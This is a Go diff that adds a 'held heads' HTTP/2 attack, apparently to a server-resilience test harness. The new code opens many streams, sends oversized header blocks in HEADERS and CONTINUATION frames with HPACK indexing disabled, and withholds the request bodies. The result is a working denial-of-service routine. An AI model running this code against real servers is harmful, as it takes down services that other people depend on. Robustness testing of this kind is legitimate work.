@@ -48,6 +48,7 @@ var attacks = []attack{
 	{"wrong lengths", 20, 1_000, wrongLengths},
 	{"pipelining, answers not read", 20, 500, pipelines},
 	{"HTTP/2 rapid reset", 500, 100_000, rapidReset},
+	{"HTTP/2 heads, bodies not sent", 4, 400, heldHeads},
 	{"arrays of 1 GB", 16 << 20, 1 << 30, hugeArrays},
 	{"arrays of empty objects", 2, 40, emptyObjects},
 	{"deep nesting", 10, 200, deepNesting},
@@ -358,6 +359,53 @@ func resetStreams(c net.Conn, n int) {
 		}
 		if f.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
 			return
+		}
+	}
+}
+
+// heldHeads opens as many streams as each connection may have, each with the largest
+// head that is taken and a body that never comes.
+func heldHeads(ctx context.Context, v victim, n int) error {
+	return hold(ctx, v, n, func(i int) (net.Conn, error) {
+		h2 := v
+		h2.tls = v.tls.Clone()
+		h2.tls.NextProtos = []string{"h2"}
+		c, err := h2.secure(ctx, i)
+		if err != nil {
+			return nil, err
+		}
+		go func() { _, _ = io.Copy(io.Discard, c) }()
+		largeStreams(c)
+		return c, nil
+	})
+}
+
+func largeStreams(c net.Conn) {
+	_, _ = io.WriteString(c, http2.ClientPreface)
+	f := http2.NewFramer(c, c)
+	_ = f.WriteSettings()
+	var block bytes.Buffer
+	enc := hpack.NewEncoder(&block)
+	enc.SetMaxDynamicTableSize(0) // nothing is sent once and held twice
+	for s := range uint32(100) {
+		block.Reset()
+		for _, h := range [][2]string{{":method", "POST"}, {":scheme", "https"}, {":authority", "x"}, {":path", "/t"}, {"content-type", "application/json"}} {
+			_ = enc.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]})
+		}
+		for i := range 18 {
+			_ = enc.WriteField(hpack.HeaderField{Name: fmt.Sprintf("x-%d", i), Value: strings.Repeat("~", 4000), Sensitive: true})
+		}
+		rest := block.Bytes()
+		first := min(len(rest), 16<<10)
+		if f.WriteHeaders(http2.HeadersFrameParam{StreamID: 2*s + 1, BlockFragment: rest[:first], EndHeaders: first == len(rest)}) != nil {
+			return
+		}
+		for rest = rest[first:]; len(rest) > 0; {
+			n := min(len(rest), 16<<10)
+			if f.WriteContinuation(2*s+1, n == len(rest), rest[:n]) != nil {
+				return
+			}
+			rest = rest[n:]
 		}
 	}
 }
